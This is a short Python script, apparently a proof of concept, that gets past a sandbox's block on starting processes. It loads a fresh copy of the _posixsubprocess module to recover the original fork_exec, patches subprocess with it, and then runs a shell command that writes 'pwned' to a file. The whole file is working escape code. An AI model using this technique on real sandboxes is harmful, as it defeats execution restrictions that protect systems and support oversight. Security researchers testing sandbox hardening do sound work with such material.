import importlib.util, subprocess, sys

# A fresh copy of the extension module has the real fork_exec, not the boot
# script's refusal; give it to subprocess.
spec = importlib.util.find_spec("_posixsubprocess")
fresh = importlib.util.module_from_spec(spec)
spec.loader.exec_module(fresh)
print("fresh copy is the refusal" if fresh.fork_exec.__name__ == "subprocess" else "fresh copy is the original")
subprocess._fork_exec = fresh.fork_exec
subprocess._USE_POSIX_SPAWN = False
print("before", flush=True)
subprocess.run(["/bin/sh", "-c", "echo pwned > " + sys.argv[1]])
print("ran")
